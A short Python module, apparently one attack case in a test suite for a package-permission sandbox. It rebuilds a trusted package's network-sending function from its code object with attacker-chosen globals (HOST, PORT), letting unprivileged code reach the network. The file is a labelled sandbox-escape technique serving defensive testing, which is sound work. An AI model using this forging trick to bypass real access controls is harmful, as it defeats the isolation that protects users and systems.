"""A function of a granted package's code over globals of one's own."""
CATEGORY = "forging"
REACH = "net"

from types import FunctionType

from . import payload


def attack():
    import good
    FunctionType(good.send.__code__, {
        "HOST": payload.HOST, "PORT": payload.PORT,
        "encode": str.encode}, argdefs=("evil", None))()
